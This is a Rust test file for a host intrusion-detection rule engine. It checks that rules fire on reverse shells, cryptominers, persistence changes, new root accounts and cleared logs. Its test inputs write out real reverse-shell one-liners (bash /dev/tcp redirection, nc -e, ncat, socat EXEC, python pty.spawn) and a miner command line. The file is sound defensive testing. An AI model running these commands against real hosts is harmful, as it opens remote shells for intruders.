//! One test (at least) per built-in host rule (process, persistence,
//! accounts, file integrity, defense evasion): hand-made events that must
//! raise exactly that rule, and near misses that must raise nothing.

use ward_events::{
    AccountChange, Actor, Ancestor, Event, EventData, ExeDeleted, FdKind, FdTarget, FileChange,
    GroupChange, ProcessCpu, ProcessInfo,
};
use ward_rules::{Engine, RuleSet, RuleSetBuilder, Severity, BUILTIN_RULE_IDS};

const T0: i64 = 1_796_885_746_000;

fn builtin() -> RuleSet {
    RuleSetBuilder::with_builtin()
        .build()
        .expect("built-in rules compile")
}

/// The ids of the rules `data` raises, sorted.
fn raised(data: EventData) -> Vec<String> {
    let mut e = Event::new(T0, "test", data);
    e.id = 1;
    e.host = "h".into();
    let mut engine = Engine::new(builtin());
    let mut ids: Vec<String> = engine
        .process(&e, T0)
        .into_iter()
        .map(|a| a.rule_id)
        .collect();
    ids.sort();
    ids
}

fn one(rule: &str) -> Vec<String> {
    vec![rule.to_string()]
}

fn none() -> Vec<String> {
    Vec::new()
}

fn proc(exe: &str, cmdline: &str) -> ProcessInfo {
    ProcessInfo {
        pid: 900,
        ppid: 800,
        uid: 0,
        user: Some("root".into()),
        exe: exe.into(),
        cmdline: cmdline.into(),
        cwd: Some("/root".into()),
        stdin: tty(),
        stdout: tty(),
        stderr: tty(),
        ancestors: vec![anc("/usr/bin/bash", "-bash"), anc("/usr/sbin/sshd", "sshd")],
        ..ProcessInfo::default()
    }
}

fn anc(exe: &str, cmdline: &str) -> Ancestor {
    Ancestor {
        pid: 800,
        exe: exe.into(),
        cmdline: cmdline.into(),
    }
}

fn tty() -> Option<FdTarget> {
    Some(FdTarget {
        kind: FdKind::Tty,
        target: "/dev/pts/0".into(),
        local: None,
        remote: None,
    })
}

fn sock(kind: FdKind) -> Option<FdTarget> {
    Some(FdTarget {
        kind,
        target: "socket:[4242]".into(),
        local: Some("127.0.0.1:39000".into()),
        remote: Some("127.0.0.1:4444".into()),
    })
}

fn exec(p: ProcessInfo) -> EventData {
    EventData::ProcessExec(p)
}

#[test]
fn every_builtin_host_rule_is_usable_and_documented() {
    let set = builtin();
    for id in BUILTIN_RULE_IDS {
        let r = set.rule(id).expect("listed rule exists");
        assert!(r.alerts, "{id} alerts");
        assert!(
            r.usable(),
            "{id}: kinds {:?}, unknown fields {:?}",
            r.kinds,
            r.unknown_fields
        );
        assert!(r.description.is_some(), "{id} has a description");
        assert!(r.level.is_some(), "{id} has a level");
    }
}

#[test]
fn proc_001_shell_on_a_socket_is_urgent() {
    let mut p = proc("/usr/bin/bash", "bash -i");
    p.stdin = sock(FdKind::Tcp);
    p.stdout = sock(FdKind::Tcp);
    assert_eq!(raised(exec(p.clone())), one("ward-proc-001"));
    // Found already running at start.
    assert_eq!(
        raised(EventData::ProcessRunning(p.clone())),
        one("ward-proc-001")
    );
    // A script the reverse shell runs inherits the socket: no second alert.
    let mut child = p.clone();
    child.cmdline = "bash /usr/lib/x/helper".into();
    child.stdio_inherited = true;
    assert_eq!(raised(exec(child)), none());
    // Only stdout on a UDP socket.
    let mut q = proc("/bin/sh", "sh");
    q.stdout = sock(FdKind::Udp);
    assert_eq!(raised(exec(q)), one("ward-proc-001"));
    // A Unix socket (systemd's journal stream) is not a network peer.
    let mut u = proc("/usr/bin/bash", "bash -c x");
    u.stdout = sock(FdKind::Unix);
    u.stderr = sock(FdKind::Unix);
    assert_eq!(raised(exec(u)), none());
    // A non-shell on a socket (a web server's worker) is not a shell.
    let mut w = proc("/usr/sbin/nginx", "nginx");
    w.stdin = sock(FdKind::Tcp);
    assert_eq!(raised(exec(w)), none());
    let set = builtin();
    assert_eq!(
        set.rule("ward-proc-001").unwrap().severity,
        Severity::Urgent
    );
    assert_eq!(
        set.rule("ward-proc-001").unwrap().techniques,
        vec!["T1059.004"]
    );
}

#[test]
fn proc_002_dev_tcp_redirection() {
    let p = proc(
        "/usr/bin/bash",
        "bash -c bash -i >& /dev/tcp/192.0.2.7/4444 0>&1",
    );
    assert_eq!(raised(exec(p)), one("ward-proc-002"));
    let p = proc("/usr/bin/cat", "cat /dev/udp/192.0.2.7/53");
    assert_eq!(raised(exec(p)), one("ward-proc-002"));
    assert_eq!(raised(exec(proc("/usr/bin/ls", "ls /dev/tty"))), none());
}

#[test]
fn proc_003_netcat_and_socat_exec_forms() {
    for (exe, cmd) in [
        ("/usr/bin/nc.traditional", "nc -e /bin/sh 192.0.2.7 4444"),
        ("/usr/bin/ncat", "ncat 192.0.2.7 4444 --sh-exec bash"),
        ("/usr/bin/ncat", "ncat -c bash 192.0.2.7 4444"),
        ("/usr/bin/busybox", "busybox nc -e /bin/sh 192.0.2.7 4444"),
        (
            "/usr/bin/socat",
            "socat TCP:192.0.2.7:4444 EXEC:/bin/bash,pty,stderr",
        ),
        ("/usr/bin/socat", "socat tcp-l:4444 system:sh"),
    ] {
        assert_eq!(raised(exec(proc(exe, cmd))), one("ward-proc-003"), "{cmd}");
    }
    for (exe, cmd) in [
        ("/usr/bin/nc.openbsd", "nc -z 192.0.2.7 22"),
        ("/usr/bin/socat", "socat TCP-LISTEN:80 TCP:10.0.0.2:8080"),
        ("/usr/bin/busybox", "busybox ls -e /"),
        ("/usr/bin/grep", "grep -e exec: file"),
    ] {
        assert_eq!(raised(exec(proc(exe, cmd))), none(), "{cmd}");
    }
}

#[test]
fn proc_004_scripted_pty_spawns() {
    let p = proc(
        "/usr/bin/python3.11",
        "python3 -c import pty; pty.spawn(\"/bin/bash\")",
    );
    assert_eq!(raised(exec(p)), one("ward-proc-004"));
    let p = proc("/usr/bin/script", "script -qc /bin/bash /dev/null");
    assert_eq!(raised(exec(p)), one("ward-proc-004"));
    // Recording a session to a file is not a shell upgrade.
    let p = proc("/usr/bin/script", "script session.log");
    assert_eq!(raised(exec(p)), none());
}

#[test]
fn proc_005_and_006_miners_by_name_and_pool_url() {
    assert_eq!(
        raised(exec(proc("/tmp/.x/xmrig", "xmrig --donate-level 1"))),
        // Also executed from /tmp.
        vec!["ward-proc-005".to_string(), "ward-proc-009".to_string()]
    );
    assert_eq!(
        raised(EventData::ProcessRunning(proc("/opt/m/XMRig", "XMRig"))),
        one("ward-proc-005")
    );
    let p = proc(
        "/usr/local/bin/helper",
        "helper -o stratum+tcp://pool.example:3333 -u wallet",
    );
    assert_eq!(raised(exec(p)), one("ward-proc-006"));
    assert_eq!(
        raised(exec(proc("/usr/bin/xmrig-config", "xmrig-config"))),
        none()
    );
}

#[test]
fn proc_007_sustained_cpu_by_an_unpackaged_binary() {
    let cpu = |packaged| {
        EventData::ProcessCpu(ProcessCpu {
            process: proc("/opt/x/worker", "worker"),
            cpu_percent: 99,
            window_secs: 600,
            packaged,
        })
    };
    assert_eq!(raised(cpu(Some(false))), one("ward-proc-007"));
    assert_eq!(raised(cpu(Some(true))), none());
    assert_eq!(
        raised(cpu(None)),
        none(),
        "unknown ownership is not evidence"
    );
}

#[test]
fn proc_008_web_server_or_database_spawning_a_shell() {
    for (parent, child) in [
        ("/usr/sbin/nginx", "/bin/sh"),
        ("/usr/sbin/apache2", "/usr/bin/wget"),
        ("/usr/sbin/php-fpm8.2", "/usr/bin/bash"),
        ("/usr/sbin/mysqld", "/usr/bin/curl"),
        ("/usr/lib/postgresql/15/bin/postgres", "/usr/bin/python3"),
    ] {
        let mut p = proc(child, "x");
        p.ancestors = vec![anc(parent, "worker"), anc("/sbin/init", "")];
        assert_eq!(raised(exec(p)), one("ward-proc-008"), "{parent} → {child}");
    }
    // A web server starting its own helper, or a shell starting curl.
    let mut p = proc("/usr/sbin/nginx", "nginx -s reload");
    p.ancestors = vec![anc("/usr/sbin/nginx", "nginx: master")];
    assert_eq!(raised(exec(p)), none());
    assert_eq!(raised(exec(proc("/usr/bin/curl", "curl x"))), none());
}

#[test]
fn proc_009_execution_from_temporary_directories() {
    for exe in ["/tmp/a", "/var/tmp/.hidden/b", "/dev/shm/c"] {
        assert_eq!(raised(exec(proc(exe, "x"))), one("ward-proc-009"), "{exe}");
    }
    // Installer scripts a package manager runs from /tmp.
    let mut p = proc("/tmp/tzdata.config.123", "/tmp/tzdata.config.123 configure");
    p.ancestors = vec![
        anc("/usr/bin/perl", "dpkg-preconfigure"),
        anc("/usr/bin/apt-get", "apt-get install tzdata"),
    ];
    assert_eq!(raised(exec(p)), none());
    assert_eq!(raised(exec(proc("/usr/bin/tmpreaper", "x"))), none());
    // A process found running from /tmp at start is not an execution.
    assert_eq!(
        raised(EventData::ProcessRunning(proc("/tmp/a", "x"))),
        none()
    );
}

#[test]
fn proc_010_deleted_executable_still_running() {
    let mut p = proc("/tmp/payload", "payload");
    p.exe_deleted = true;
    let gone = EventData::ProcessExeDeleted(ExeDeleted {
        process: p.clone(),
        replaced: false,
    });
    assert_eq!(raised(gone), one("ward-proc-010"));
    // Upgraded in place: the path holds a new file.
    let upgraded = EventData::ProcessExeDeleted(ExeDeleted {
        process: p,
        replaced: true,
    });
    assert_eq!(raised(upgraded), none());
}

#[test]
fn proc_011_memfd_execution() {
    let mut p = proc("/memfd:payload", "payload");
    p.memfd = true;
    p.exe_deleted = true;
    assert_eq!(raised(exec(p.clone())), one("ward-proc-011"));
    // Found running at start: not an execution seen (supervisors such as
    // container runtimes keep memfd processes).
    assert_eq!(raised(EventData::ProcessRunning(p.clone())), none());
    let mut runc = p.clone();
    runc.exe = "/memfd:runc_cloned:/proc/self/exe".into();
    assert_eq!(raised(exec(runc)), none());
    // A memfd "deleted" report is the memfd rule's, not the deleted-file one.
    let d = EventData::ProcessExeDeleted(ExeDeleted {
        process: p,
        replaced: false,
    });
    assert_eq!(raised(d), none());
}

fn change(path: &str, category: &str) -> FileChange {
    FileChange {
        path: path.into(),
        category: category.into(),
        file_type: Some("file".into()),
        size: Some(40),
        sha256: Some("00".repeat(32)),
        mode: Some(0o644),
        owner_uid: Some(0),
        owner_gid: Some(0),
        lines_added: Some(1),
        lines_removed: Some(0),
        added: "* * * * * root /tmp/x".into(),
        actor: Some(Actor {
            pid: 55,
            exe: "/usr/bin/bash".into(),
            uid: 0,
            user: Some("root".into()),
            ..Actor::default()
        }),
        seen_by: "fanotify".into(),
        ..FileChange::default()
    }
}

fn created(f: FileChange) -> EventData {
    EventData::FileCreated(f)
}

fn modified(f: FileChange) -> EventData {
    EventData::FileModified(f)
}

#[test]
fn persistence_rules_one_per_category_with_their_technique() {
    let set = builtin();
    for (path, category, rule, technique) in [
        ("/etc/cron.d/job", "cron", "ward-persist-001", "T1053.003"),
        (
            "/etc/systemd/system/evil.service",
            "systemd",
            "ward-persist-002",
            "T1543.002",
        ),
        (
            "/etc/systemd/system/evil.timer",
            "systemd",
            "ward-persist-003",
            "T1053.006",
        ),
        ("/etc/rc.local", "rc_local", "ward-persist-004", "T1037.004"),
        (
            "/etc/profile.d/x.sh",
            "profile",
            "ward-persist-005",
            "T1546.004",
        ),
        (
            "/root/.ssh/authorized_keys",
            "authorized_keys",
            "ward-persist-006",
            "T1098.004",
        ),
        (
            "/etc/ld.so.preload",
            "ld_preload",
            "ward-persist-007",
            "T1574.006",
        ),
        ("/etc/pam.d/sshd", "pam", "ward-persist-008", "T1556.003"),
        (
            "/etc/sudoers.d/x",
            "sudoers",
            "ward-persist-009",
            "T1548.003",
        ),
    ] {
        assert_eq!(raised(created(change(path, category))), one(rule), "{path}");
        assert_eq!(
            raised(modified(change(path, category))),
            one(rule),
            "{path}"
        );
        let r = set.rule(rule).unwrap();
        assert_eq!(r.techniques.first().map(String::as_str), Some(technique));
        // The package manager's changes, removed lines only, deletions and
        // renames raise nothing.
        let mut pkg = change(path, category);
        pkg.by_package = true;
        pkg.tool = Some("dpkg".into());
        assert_eq!(raised(modified(pkg)), none(), "{path} by dpkg");
        let mut undo = change(path, category);
        undo.lines_added = Some(0);
        undo.lines_removed = Some(1);
        undo.added = String::new();
        assert_eq!(raised(modified(undo.clone())), none(), "{path} undone");
        assert_eq!(raised(EventData::FileDeleted(undo.clone())), none());
        assert_eq!(raised(EventData::FileRenamed(undo)), none());
    }
    assert_eq!(
        set.rule("ward-persist-007").unwrap().severity,
        Severity::Urgent
    );
}

#[test]
fn persistence_counts_symlinks_and_untracked_files() {
    let mut link = change(
        "/etc/systemd/system/multi-user.target.wants/x.service",
        "systemd",
    );
    link.file_type = Some("symlink".into());
    link.lines_added = None;
    link.link_target = Some("/tmp/x.service".into());
    assert_eq!(raised(created(link)), one("ward-persist-002"));
    let mut big = change("/usr/lib/x86_64-linux-gnu/security/pam_unix.so", "pam");
    big.lines_added = None;
    assert_eq!(raised(modified(big)), one("ward-persist-008"));
    // An empty new file adds nothing (yet).
    let mut empty = change("/etc/cron.d/empty", "cron");
    empty.lines_added = Some(0);
    assert_eq!(raised(created(empty)), none());
}

#[test]
fn persist_010_setuid_bit_added_outside_the_package_manager() {
    let mut f = change("/tmp/.sh", "temp");
    f.mode = Some(0o4755);
    f.old_mode = Some(0o755);
    assert_eq!(
        raised(EventData::FileAttrib(f.clone())),
        one("ward-persist-010")
    );
    // Under a file-integrity path: the setuid rule, not also the FIM one.
    let mut g = change("/usr/bin/find", "fim");
    g.mode = Some(0o4755);
    g.old_mode = Some(0o755);
    assert_eq!(
        raised(EventData::FileAttrib(g.clone())),
        one("ward-persist-010")
    );
    g.by_package = true;
    assert_eq!(raised(EventData::FileAttrib(g)), none());
    // Bit already there, or removed.
    f.old_mode = Some(0o4755);
    assert_eq!(raised(EventData::FileAttrib(f.clone())), none());
    f.mode = Some(0o755);
    assert_eq!(raised(EventData::FileAttrib(f)), none());
}

fn account(user: &str, uid: u32) -> AccountChange {
    AccountChange {
        user: user.into(),
        uid,
        gid: uid,
        home: format!("/home/{user}"),
        shell: "/bin/bash".into(),
        ..AccountChange::default()
    }
}

#[test]
fn account_rules_new_accounts_uid_0_and_privileged_groups() {
    assert_eq!(
        raised(EventData::AccountCreated(account("eve", 1001))),
        one("ward-account-001")
    );
    // UID 0: only the urgent rule.
    assert_eq!(
        raised(EventData::AccountCreated(account("toor", 0))),
        one("ward-account-002")
    );
    let mut sys = account("_svc", 998);
    sys.by_package = true;
    assert_eq!(raised(EventData::AccountCreated(sys)), none());
    // Even a package manager creating a second root is urgent.
    let mut pkg_root = account("toor", 0);
    pkg_root.by_package = true;
    assert_eq!(
        raised(EventData::AccountCreated(pkg_root)),
        one("ward-account-002")
    );
    let mut m = account("eve", 0);
    m.old_uid = Some(1001);
    m.changed = "uid".into();
    assert_eq!(
        raised(EventData::AccountModified(m)),
        one("ward-account-003")
    );
    let mut shell = account("eve", 1001);
    shell.changed = "shell".into();
    assert_eq!(raised(EventData::AccountModified(shell)), none());
    assert_eq!(
        raised(EventData::AccountDeleted(account("eve", 1001))),
        none()
    );
    let group = |name: &str, added: &str| {
        EventData::GroupModified(GroupChange {
            group: name.into(),
            gid: 27,
            members: format!("alice,{added}"),
            added: added.into(),
            ..GroupChange::default()
        })
    };
    assert_eq!(raised(group("sudo", "eve")), one("ward-account-004"));
    assert_eq!(raised(group("users", "eve")), none());
    assert_eq!(raised(group("sudo", "")), none(), "only removals");
    let set = builtin();
    assert_eq!(
        set.rule("ward-account-002").unwrap().severity,
        Severity::Urgent
    );
}

#[test]
fn fim_rules_split_binaries_from_configuration() {
    for kind in [
        created as fn(FileChange) -> EventData,
        modified,
        EventData::FileDeleted,
        EventData::FileAttrib,
    ] {
        assert_eq!(
            raised(kind(change("/usr/bin/ls", "fim"))),
            one("ward-fim-001")
        );
        assert_eq!(
            raised(kind(change("/etc/hosts", "fim"))),
            one("ward-fim-002")
        );
        let mut pkg = change("/usr/bin/ls", "fim");
        pkg.by_package = true;
        assert_eq!(raised(kind(pkg)), none());
    }
    // Persistence categories are not FIM changes (one alert per change).
    assert_eq!(
        raised(modified(change("/etc/crontab", "cron"))),
        one("ward-persist-001")
    );
    assert_eq!(raised(modified(change("/etc/passwd", "accounts"))), none());
}

#[test]
fn evasion_001_history_deleted_emptied_or_linked_to_null() {
    let h = || change("/root/.bash_history", "history");
    assert_eq!(raised(EventData::FileDeleted(h())), one("ward-evasion-001"));
    let mut emptied = h();
    emptied.truncated = true;
    emptied.size = Some(0);
    emptied.old_size = Some(5000);
    assert_eq!(raised(modified(emptied)), one("ward-evasion-001"));
    let mut link = h();
    link.file_type = Some("symlink".into());
    link.link_target = Some("/dev/null".into());
    assert_eq!(raised(modified(link)), one("ward-evasion-001"));
    // bash rewriting a trimmed history is not clearing it.
    let mut trimmed = h();
    trimmed.truncated = true;
    trimmed.size = Some(4000);
    assert_eq!(raised(modified(trimmed)), none());
    assert_eq!(raised(modified(h())), none());
}

#[test]
fn evasion_002_log_deleted_or_emptied_except_by_rotation() {
    let l = || change("/var/log/auth.log", "log");
    assert_eq!(raised(EventData::FileDeleted(l())), one("ward-evasion-002"));
    let mut emptied = l();
    emptied.truncated = true;
    emptied.size = Some(0);
    assert_eq!(raised(modified(emptied.clone())), one("ward-evasion-002"));
    let mut rotated = emptied;
    rotated.tool = Some("logrotate".into());
    assert_eq!(raised(modified(rotated)), none());
    let mut gz = l();
    gz.path = "/var/log/auth.log.1".into();
    gz.tool = Some("logrotate".into());
    assert_eq!(raised(EventData::FileDeleted(gz)), none());
    // Renamed by rotation: a rename, not a deletion.
    assert_eq!(raised(EventData::FileRenamed(l())), none());
    assert_eq!(raised(modified(l())), none(), "appended");
}
